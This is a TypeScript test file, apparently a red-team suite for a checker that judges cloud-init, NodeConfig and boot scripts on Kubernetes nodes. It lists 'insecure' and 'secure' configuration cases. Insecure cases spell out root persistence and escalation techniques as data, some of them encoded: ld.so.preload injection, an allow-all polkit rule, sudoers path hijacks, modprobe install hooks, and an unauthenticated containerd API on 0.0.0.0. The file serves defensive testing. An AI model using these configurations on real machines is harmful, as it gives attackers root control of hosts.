    devNodeCase(
        "Y8 systemd-tmpfiles --create - from a pipe",
        devNodeScript(n("y8"), [SO, "echo 'f+ /etc/ld.so.preload - - - - /opt/x.so' | systemd-tmpfiles --create -"]),
    ),
    devNodeCase(
        "Y9 polkit rule returning YES for everyone",
        devNodeScript(n("y9"), [
            "mkdir -p /etc/polkit-1/rules.d",
            "echo 'polkit.addRule(function(a, s) { return polkit.Result.YES; });' > /etc/polkit-1/rules.d/00-all.rules",
        ]),
    ),
    // modprobe.d(5): "you can continue a line by ending it with a \".
    devNodeCase(
        "Y10 modprobe.d install line continued with a backslash",
        devNodeScript(n("y10"), [
            `printf 'install nf_conntrack /sbin/modprobe --ignore-install nf_conntrack \\\\\\n; ${HOOK}\\n' > /etc/modprobe.d/ct.conf`,
        ]),
    ),
    devNodeCase(
        "Y11 ld.so.conf.d include /data/ld.conf",
        devNodeScript(n("y11"), ["echo 'include /data/ld.conf' > /etc/ld.so.conf.d/ops.conf", "ldconfig"]),
    ),
    devNodeCase(
        "Y12 ld.so.conf.d /srv/lib",
        devNodeScript(n("y12"), ["echo '/srv/lib' > /etc/ld.so.conf.d/ops.conf", "ldconfig"]),
    ),
    devNodeCase(
        "Y13 kubelet drop-in EnvironmentFile=-/srv/kubelet.env",
        devNodeScript(n("y13"), [
            "mkdir -p /etc/systemd/system/kubelet.service.d",
            "printf '[Service]\\nEnvironmentFile=-/srv/kubelet.env\\n' > /etc/systemd/system/kubelet.service.d/20-env.conf",
        ]),
    ),
    devNodeCase(
        "Y14 at job sourcing /srv/ops.sh",
        devNodeScript(n("y14"), ["echo '. /srv/ops.sh' | at now + 5 minutes"]),
    ),
    devNodeCase(
        "Y15 at job with LD_PRELOAD of a download",
        devNodeScript(n("y15"), [SO, "echo 'LD_PRELOAD=/opt/x.so /usr/bin/true' | at now"]),
    ),
    devNodeCase(
        "Y16 sudoers.d secure_path=/srv/bin first",
        devNodeScript(n("y16"), ["echo 'Defaults secure_path=/srv/bin:/usr/sbin:/usr/bin' > /etc/sudoers.d/10-path"]),
    ),
    devNodeCase(
        "Y17 #includedir /srv/sudoers.d",
        devNodeScript(n("y17"), ["echo '#includedir /srv/sudoers.d' >> /etc/sudoers"]),
    ),
    devNodeCase(
        "Y18 /etc/ld.so.conf /opt/lib (a library directory the pack cannot vouch for)",
        devNodeScript(n("y18"), ["echo '/opt/lib' > /etc/ld.so.conf"]),
    ),
    // ---- globs, braces, .. to a data directory ----
    devNodeCase(
        "G1 profile.d sources /dat[a]/ops.sh",
        devNodeScript(n("g1"), ["echo '. /dat[a]/ops.sh' > /etc/profile.d/ops.sh"]),
    ),
    devNodeCase(
        "G2 profile.d for f in /dat?/ops.sh",
        devNodeScript(n("g2"), ["echo 'for f in /dat?/ops.sh; do . $f; done' > /etc/profile.d/ops.sh"]),
    ),
    devNodeCase(
        "G3 .bashrc sources /{data,opt}/ops.sh",
        devNodeScript(n("g3"), ["echo '. /{data,opt}/ops.sh' >> /root/.bashrc"]),
    ),
    devNodeCase("G4 root runs /dat?/hook.sh", devNodeScript(n("g4"), ["/dat?/hook.sh"])),
    devNodeCase(
        "G5 profile.d sources /srv/../data/ops.sh",
        devNodeScript(n("g5"), ["echo '. /srv/../data/ops.sh' > /etc/profile.d/ops.sh"]),
    ),
    // ---- containerd's API on TCP ----
    devNodeCase(
        "K1 config.d drop-in grpc tcp_address 0.0.0.0:10010 (no TLS)",
        devNodeScript(n("k1"), [
            "mkdir -p /etc/containerd/config.d",
            "cat > /etc/containerd/config.d/10-tcp.toml <<'EOF'",
            "version = 2",
            "[grpc]",
            '  tcp_address = "0.0.0.0:10010"',
            "EOF",
            "systemctl restart containerd",
        ]),
    ),
    devNodeCase(
        "K2 config.toml tcp_address with tcp_tls_cert and an empty tcp_tls_ca",
        devNodeScript(n("k2"), [
            "cat >> /etc/containerd/config.toml <<'EOF'",
            "[grpc]",
            '  tcp_address = "0.0.0.0:10010"',
            '  tcp_tls_cert = "/etc/pki/c.pem"',
            '  tcp_tls_ca = ""',
            "EOF",
        ]),
    ),
    devNodeCase(
        "K3 sed adds tcp_address under [grpc]",
        devNodeScript(n("k3"), [
            "sed -i 's|^\\[grpc\\]|[grpc]\\n  tcp_address = \"0.0.0.0:10010\"|' /etc/containerd/config.toml",
        ]),
    ),
    devNodeCase(
        "K4 imports of a downloaded TOML",
        devNodeScript(n("k4"), [
            "cat > /etc/containerd/config.d/20-imports.toml <<'EOF'",
            'imports = ["/opt/ctr/*.toml"]',
            "EOF",
            "curl -fsSL -o /opt/ctr/x.toml https://downloads.example.com/x.toml",
        ]),
    ),
    devNodeCase(
        "K5 version 3, [::]:10010",
        devNodeScript(n("k5"), [
            "cat > /etc/containerd/config.d/10-tcp.toml <<'EOF'",
            "version = 3",
            "[grpc]",
            '  tcp_address = "[::]:10010"',
            "EOF",
        ]),
    ),
    devNodeCase(
        "K6 dotted key grpc.tcp_address",
        devNodeScript(n("k6"), [
            "cat > /etc/containerd/config.d/10-tcp.toml <<'EOF'",
            'grpc.tcp_address = "0.0.0.0:10010"',
            "EOF",
        ]),
    ),
    devNodeCase(
        "K7 literal string ':10010'",
        devNodeScript(n("k7"), [
            "cat > /etc/containerd/config.d/10-tcp.toml <<'EOF'",
            "[grpc]",
            "tcp_address = ':10010'",
            "EOF",
        ]),
    ),
    devNodeCase(
        "K8 NodeConfig containerd.config tcp_address (no TLS)",
        nodeadm("k8", ["  containerd:", "    config: |", "      [grpc]", '      tcp_address = "0.0.0.0:10010"']),
    ),
    devNodeCase(
        "K9 NodeConfig tcp_address with cert and key but no CA (no client authentication)",
        nodeadm("k9", [
            "  containerd:",
            "    config: |",
            "      version = 2",
            "      [grpc]",
            '        tcp_address = "0.0.0.0:10010"',
            '        tcp_tls_cert = "/etc/pki/c.pem"',
            '        tcp_tls_key = "/etc/pki/k.pem"',
        ]),
    ),
    devNodeCase(
        "K10 NodeConfig debug.address under /data",
        nodeadm("k10", ["  containerd:", "    config: |", "      [debug]", '      address = "/data/debug.sock"']),
    ),
    // ---- cloud-config modules ----
    devNodeCase(
        "C1 write_files defer+append /etc/ld.so.preload /data/x.so",
        cloud("c1", [
            "write_files:",
            "  - path: /etc/ld.so.preload",
            "    content: |",
            "      /data/x.so",
            "    defer: true",
            "    append: true",
        ]),
    ),
    devNodeCase(
        "C2 write_files b64 /etc/ld.so.preload, deferred",
        cloud("c2", [
            "write_files:",
            "  - path: /etc/ld.so.preload",
            "    encoding: b64",
            "    content: L2RhdGEveC5zbwo=",
            "    defer: true",
        ]),
    ),
    devNodeCase(
        "C3 write_files source.uri into profile.d",
        cloud("c3", [
            "write_files:",
            "  - path: /etc/profile.d/ops.sh",
            "    source:",
            "      uri: https://downloads.example.com/ops.sh",
        ]),
    ),
    devNodeCase(
        "C4 yum_repos baseurl file:///data/repo",
        cloud("c4", [
            "yum_repos:",
            "  ops:",
            "    name: ops",
            "    baseurl: file:///data/repo",
            "    enabled: true",
            "    gpgcheck: false",
            "packages:",
            "  - ops-agent",
        ]),
    ),
    devNodeCase(
        "C5 runcmd argv list with $0",
        cloud("c5", ["runcmd:", "  - - sh", "    - -c", "    - echo $0 > /etc/ld.so.preload", "    - /data/x.so"]),
    ),
    devNodeCase(
        "C6 write_files defer+append LD_PRELOAD to /etc/environment",
        cloud("c6", [
            "write_files:",
            "  - path: /etc/environment",
            "    content: LD_PRELOAD=/opt/x.so",
            "    append: true",
            "    defer: true",
            "runcmd:",
            `  - ${SO}`,
        ]),
    ),
    devNodeCase(
        "C7 write_files gzip+base64 (unreadable)",
        cloud("c7", [
            "write_files:",
            "  - path: /etc/ld.so.preload",
            "    encoding: gzip+base64",
            "    content: H4sIAAAAAAAAA9NPSUks0asw0ivO5wIAAJ8uKg0AAAA=",
        ]),
    ),
    devNodeCase(
        "C8 runcmd systemd-run --on-calendar timer",
        cloud("c8", ["runcmd:", "  - [ systemd-run, --on-calendar=hourly, /bin/sh, -c, '. /srv/ops.sh' ]"]),
    ),
    devNodeCase(
        "C9 rsyslog configs ^/data/hook.sh",
        cloud("c9", [
            "rsyslog:",
            "  configs:",
            "    - filename: 50-x.conf",
            "      content: |",
            "        *.* ^/data/hook.sh",
        ]),
    ),
    // ---- round 78 fix neighbours ----
    // containerd-config.toml(5): a TCP listener needs tcp_tls_cert and tcp_tls_ca (mutual TLS); a script-written
    // drop-in with a certificate but no CA serves the API to anyone reaching the port, judged as NodeConfig's K9.
    devNodeCase(
        "K11 config.d drop-in tcp_address with cert and key but no CA-fix78",
        devNodeScript(n("k11"), [
            "mkdir -p /etc/containerd/config.d",
            'printf \'[grpc]\\n  tcp_address = "0.0.0.0:10010"\\n  tcp_tls_cert = "/etc/pki/c.pem"\\n  tcp_tls_key = "/etc/pki/k.pem"\\n\' > /etc/containerd/config.d/10-tcp.toml',
        ]),
        /tcp_address/,
    ),
    // TOML v1.0.0 "Table": keys appended without a header land in the table the image's config.toml ends with, which
    // the pack does not see.
    devNodeCase(
        "K12 config.toml appended with keys before any table header-fix78",
        devNodeScript(n("k12"), ["echo 'tcp_address = \"0.0.0.0:10010\"' >> /etc/containerd/config.toml"]),
        /table header/,
    ),
    // The CA path comes from a variable the pack does not know (it may be empty: no client authentication).
    devNodeCase(
        "K13 config.d tcp_tls_ca from a command substitution-fix78",
        devNodeScript(n("k13"), [
            "cat > /etc/containerd/config.d/10-tcp.toml <<EOF",
            "[grpc]",
            '  tcp_address = "0.0.0.0:10010"',
            '  tcp_tls_cert = "/etc/pki/c.pem"',
            '  tcp_tls_ca = "$(cat /opt/ca-path)"',
            "EOF",
        ]),
    ),
    // containerd-config.toml(5) imports of a file outside /etc/containerd: text the pack never reads.
    devNodeCase(
        "K14 NodeConfig containerd.config imports /opt/ctr/x.toml-fix78",
        nodeadm("k14", ["  containerd:", "    config: |", '      imports = ["/opt/ctr/x.toml"]']),
        /imports/,
    ),
    // sudoers(5) secure_path with a relative, an empty, or an application directory: sudo searches it for root.
    devNodeCase(
        "Y19 sudoers.d secure_path with an empty entry (the working directory)-fix78",
        devNodeScript(n("y19"), ["echo 'Defaults secure_path=/usr/sbin::/usr/bin' > /etc/sudoers.d/10-path"]),
    ),
    devNodeCase(
        "Y20 sudoers.d secure_path ending in /opt/tools/bin-fix78",
        devNodeScript(n("y20"), [
            "echo 'Defaults secure_path=\"/usr/sbin:/usr/bin:/opt/tools/bin\"' > /etc/sudoers.d/10-path",
        ]),
    ),
    devNodeCase(
        "Y21 sudoers.d !secure_path (the caller's PATH)-fix78",
        devNodeScript(n("y21"), ["echo 'Defaults !secure_path' > /etc/sudoers.d/10-path"]),
    ),
];

const secure: NodeCase[] = [
    // GNU timeout(1) with the `=` forms and short options: the command is /usr/bin/true, an image program.
    devNodeCase(
        "S1 timeout --signal=KILL 300 /usr/bin/true",
        devNodeScript(n("s1"), ["timeout --signal=KILL 300 /usr/bin/true"]),
    ),
    devNodeCase(
        "S2 nice -n 5 ionice -c 3 timeout -k 5 60 /usr/bin/true",
        devNodeScript(n("s2"), ["nice -n 5 ionice -c 3 timeout -k 5 60 /usr/bin/true"]),
    ),
    devNodeCase(
        "S3 sudo -u nobody timeout 60 /usr/bin/true",
        devNodeScript(n("s3"), ["sudo -u nobody timeout 60 /usr/bin/true"]),
    ),
    // The next-word forms of documented options (getopt_long(3) "--arg param"), the command an image program.
    devNodeCase(
        "S1-fix78 sudo -T 60 timeout --signal KILL --kill-after 5 300 nice --adjustment 5 /usr/bin/true",
        devNodeScript(n("s1f"), [
            "sudo -T 60 timeout --signal KILL --kill-after 5 300 nice --adjustment 5 /usr/bin/true",
        ]),
    ),
    devNodeCase(
        "S2-fix78 ionice --class 3 stdbuf --output L chrt --idle 0 /usr/bin/time --output /tmp/t /usr/bin/true",
        devNodeScript(n("s2f"), [
            "ionice --class 3 stdbuf --output L chrt --idle 0 /usr/bin/time --output /tmp/t /usr/bin/true",
        ]),
    ),
    // Known text in the readers READ_BEFORE_WRITE now lists is judged by its own reader (round 78): a logrotate
    // stanza with no script, an rsyslog forward, a sysctl.d number loaded with sysctl -p.
    devNodeCase(
        "S3-fix78 logrotate.d stanza without scripts, rsyslog.d forward, sysctl -p of a known file",
        devNodeScript(n("s3f"), [
            "printf '/var/log/app/*.log {\\n  daily\\n  rotate 7\\n  compress\\n}\\n' > /etc/logrotate.d/app",
            "echo '*.* @@logs.internal.example.com:514' > /etc/rsyslog.d/90-forward.conf",
            "echo 'vm.max_map_count = 262144' > /usr/local/lib/sysctl.d/90-es.conf",
            "sysctl -p /usr/local/lib/sysctl.d/90-es.conf",
        ]),
    ),
    // auditd.conf(5): email/syslog actions run no program; plugin_dir the default.
    devNodeCase(
        "S4 auditd.conf with known content (space_left_action = email)",
        devNodeScript(n("s4"), [
            "cat > /etc/audit/auditd.conf <<'EOF'",
            "log_file = /var/log/audit/audit.log",
            "space_left_action = email",
            "plugin_dir = /etc/audit/plugins.d",
            "EOF",
        ]),
    ),
    // systemd-escape output in a file name under an application directory: no judged file matches.
    devNodeCase(
        'S5 a note > "/opt/app/$(systemd-escape "$UNK").txt"',
        devNodeScript(n("s5"), ["mkdir -p /opt/app", 'echo "# note" > "/opt/app/$(systemd-escape "$UNK").txt"']),
    ),
    // A comment at a path an empty escape may make /etc/ld.so.preload.note: no file root's programs read.
    devNodeCase(
        'S6 a comment > "/etc/$(systemd-escape "$UNK")/ld.so.preload.note"',
        devNodeScript(n("s6"), ['echo \'# rotated by ops\' > "/etc/$(systemd-escape "$UNK")/ld.so.preload.note"']),
    ),
    // Round 78: an empty escape drops its component; /opt/app/note.txt is still no file root's programs read.
    devNodeCase(
        'S6-fix78 a comment > "/opt/app/$(systemd-escape "$UNK")/note.txt"',
        devNodeScript(n("s6f"), ["mkdir -p /opt/app", 'echo "# note" > "/opt/app/$(systemd-escape "$UNK")/note.txt"']),
    ),
    // sysctl.d(5): vm.max_map_count is a number; core(5): a core_pattern without "|" names a file, runs nothing.
    devNodeCase(
        "S7 sysctl.d vm.max_map_count",
        devNodeScript(n("s7"), ["echo 'vm.max_map_count = 262144' > /etc/sysctl.d/90-es.conf", "sysctl --system"]),
    ),
    devNodeCase(
        "S8 sysctl.d kernel.core_pattern = core.%e.%p",
        devNodeScript(n("s8"), ["echo 'kernel.core_pattern = core.%e.%p' > /etc/sysctl.d/50-core.conf"]),
    ),
    // logrotate(8) postrotate of an image program only.
    devNodeCase(
        "S9 logrotate.d postrotate systemctl kill -s HUP rsyslog",
        devNodeScript(n("s9"), [
            "cat > /etc/logrotate.d/ops <<'EOF'",
            "/var/log/ops/*.log {",
            "  daily",
            "  rotate 7",
            "  postrotate",
            "    /usr/bin/systemctl kill -s HUP rsyslog.service",
            "  endscript",
            "}",
            "EOF",
        ]),
    ),
    // CIS Amazon Linux 2023 "Ensure cramfs kernel module is not available": `install cramfs /bin/false`, blacklist.
    devNodeCase(
        "S10 modprobe.d install cramfs /bin/false (CIS)",
        devNodeScript(n("s10"), [
            "printf 'install cramfs /bin/false\\nblacklist cramfs\\n' > /etc/modprobe.d/cramfs.conf",
        ]),
    ),
    // containerd config (docs/man/containerd-config.toml.5): tcp_tls_ca makes the TCP API require client certificates
    // signed by that CA (mutual TLS), so only holders of such a certificate reach it; metrics serve only metrics.
    devNodeCase(
        "S11 NodeConfig tcp_address with cert, key and CA (mutual TLS)",
        nodeadm("s11", [
            "  containerd:",
            "    config: |",
            "      [grpc]",
            '      tcp_address = "0.0.0.0:10010"',
            '      tcp_tls_cert = "/etc/pki/c.pem"',
            '      tcp_tls_key = "/etc/pki/k.pem"',
            '      tcp_tls_ca = "/etc/pki/ca.pem"',
        ]),
    ),
    devNodeCase(
        "S12 NodeConfig metrics address on loopback",
        nodeadm("s12", ["  containerd:", "    config: |", "      [metrics]", '      address = "127.0.0.1:1338"']),
    ),
    devNodeCase(
        "S13 tmpfiles d /run/ops 0750 root root",
        devNodeScript(n("s13"), ["echo 'd /run/ops 0750 root root -' > /etc/tmpfiles.d/ops.conf"]),
    ),
    // FHS: /usr/local/lib64 is root-owned.
    devNodeCase(
        "S14 ld.so.conf.d /usr/local/lib64",
        devNodeScript(n("s14"), ["echo '/usr/local/lib64' > /etc/ld.so.conf.d/local.conf", "ldconfig"]),
    ),
    devNodeCase(
        "S15 systemd-run --on-calendar=daily /usr/sbin/fstrim -a",
        devNodeScript(n("s15"), ["systemd-run --on-calendar=daily /usr/sbin/fstrim -a"]),
    ),
    devNodeCase(
        "S16 at job of an image program",
        devNodeScript(n("s16"), ["echo '/usr/sbin/fstrim -a' | at now + 1 hour"]),
    ),
    // rsyslog omprog docs: "Arbitrary external programs should be placed under the /usr/libexec/rsyslog directory".
    devNodeCase(
        "S17 rsyslog omprog of /usr/libexec/rsyslog/ops.sh",
        devNodeScript(n("s17"), [
            "cat > /etc/rsyslog.d/10-ops.conf <<'EOF'",
            'module(load="omprog")',
            'action(type="omprog" binary="/usr/libexec/rsyslog/ops.sh")',
            "EOF",
        ]),
    ),
    // cloud-init yum_repos over https with gpgcheck and a key: packages signed by the repository's key.
    devNodeCase(
        "S18 yum_repos https, gpgcheck true",
        cloud("s18", [
            "yum_repos:",
            "  ops:",
            "    name: ops",
            "    baseurl: https://repo.example.com/el9",
            "    enabled: true",
            "    gpgcheck: true",
            "    gpgkey: https://repo.example.com/RPM-GPG-KEY",
            "packages:",
            "  - ops-agent",
        ]),
    ),
    devNodeCase(
        "S19 write_files defer+append a comment to /etc/environment",
        cloud("s19", [
            "write_files:",
            "  - path: /etc/environment",
            "    content: |",
            "      # managed by ops",
            "    append: true",
            "    defer: true",
        ]),
    ),
    devNodeCase(
        "S20 bootcmd sysctl -w vm.max_map_count",
        cloud("s20", [
            "bootcmd:",
            "  - [ sysctl, -w, vm.max_map_count=262144 ]",
            "runcmd:",
            "  - [ systemctl, restart, systemd-sysctl ]",
        ]),
    ),
    // Was a MISS (fixed in round 78): secure refused ("writes /etc/containerd/config.d/10-metrics.toml ..., the node's own configuration or
    // credentials, which the pack cannot judge"). containerd's [metrics] address serves Prometheus metrics only
    // (containerd-config.toml(5)), on loopback here; the same TOML in NodeConfig containerd.config is clean (S12).
    // Where: the script writer's node-configuration branch (userDataReaders/rootWrites.ts / addresses.ts
    // NODE_CONFIG_PATHS) refuses every containerd config write. Fix: judge a script-written containerd
    // config.toml/config.d file whose text is known with the NodeConfig containerd.config reader.
    devNodeCase(
        "SR1 script-written config.d metrics on loopback",
        devNodeScript(n("sr1"), [
            "mkdir -p /etc/containerd/config.d",
            "cat > /etc/containerd/config.d/10-metrics.toml <<'EOF'",
            "[metrics]",
            '  address = "127.0.0.1:1338"',
            "EOF",
        ]),
    ),
    // Was a MISS (fixed in round 78): secure refused, as SR1: the mutual-TLS TCP API clean in NodeConfig (S11), refused when appended by script.
    devNodeCase(
        "SR2 script-appended config.toml tcp_address with cert, key and CA",
        devNodeScript(n("sr2"), [
            "cat >> /etc/containerd/config.toml <<'EOF'",
            "[grpc]",
            '  tcp_address = "0.0.0.0:10010"',
            '  tcp_tls_cert = "/etc/pki/c.pem"',
            '  tcp_tls_key = "/etc/pki/k.pem"',
            '  tcp_tls_ca = "/etc/pki/ca.pem"',
            "EOF",
        ]),
    ),
    // Was a MISS (fixed in round 78): secure refused ("writes /etc/sudoers.d/10-path ... whoever the written file lets in"). sudoers(5)
    // secure_path: "Path used for every command run from sudo"; these are AL2023's own root-owned directories (its
    // /etc/sudoers ships `Defaults secure_path = /sbin:/bin:/usr/sbin:/usr/bin`), so no one gains a command.
    // Where: userDataReaders/addresses.ts tighteningSudoDefaults lists no secure_path. Fix: a secure_path whose every
    // directory is a root-owned system directory (no data directory, no unknown part) is tightening.
    devNodeCase(
        "SR3 sudoers.d Defaults secure_path of system directories",
        devNodeScript(n("sr3"), [
            "echo 'Defaults secure_path=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin' > /etc/sudoers.d/10-path",
            "chmod 0440 /etc/sudoers.d/10-path",
        ]),
    ),
    // containerd-config.toml(5) imports, relative to the importing file's directory: a drop-in under /etc/containerd,
    // judged where user data writes it (here loopback metrics only).
    devNodeCase(
        "SR4 config.toml whole with imports of config.d, a loopback metrics drop-in-fix78",
        devNodeScript(n("sr4"), [
            "mkdir -p /etc/containerd/config.d",
            "cat > /etc/containerd/config.toml <<'EOF'",
            "version = 2",
            'imports = ["config.d/*.toml"]',
            "[grpc]",
            '  address = "/run/containerd/containerd.sock"',
            "EOF",
            "printf '[metrics]\\n  address = \"127.0.0.1:1338\"\\n' > /etc/containerd/config.d/10-metrics.toml",
        ]),
    ),
    // sudoers(5) secure_path: AL2023's own value (/sbin:/bin:/usr/sbin:/usr/bin), quoted, beside use_pty: root-owned
    // system directories only.
    devNodeCase(
        'SR5 sudoers.d Defaults use_pty, secure_path="/sbin:/bin:/usr/sbin:/usr/bin"-fix78',
        devNodeScript(n("sr5"), [
            "cat > /etc/sudoers.d/10-path <<'EOF'",
            'Defaults use_pty, secure_path = "/sbin:/bin:/usr/sbin:/usr/bin"',
            "EOF",
            "chmod 0440 /etc/sudoers.d/10-path",
        ]),
    ),
];

describeNodeCases("red team round 78: node", insecure, secure);
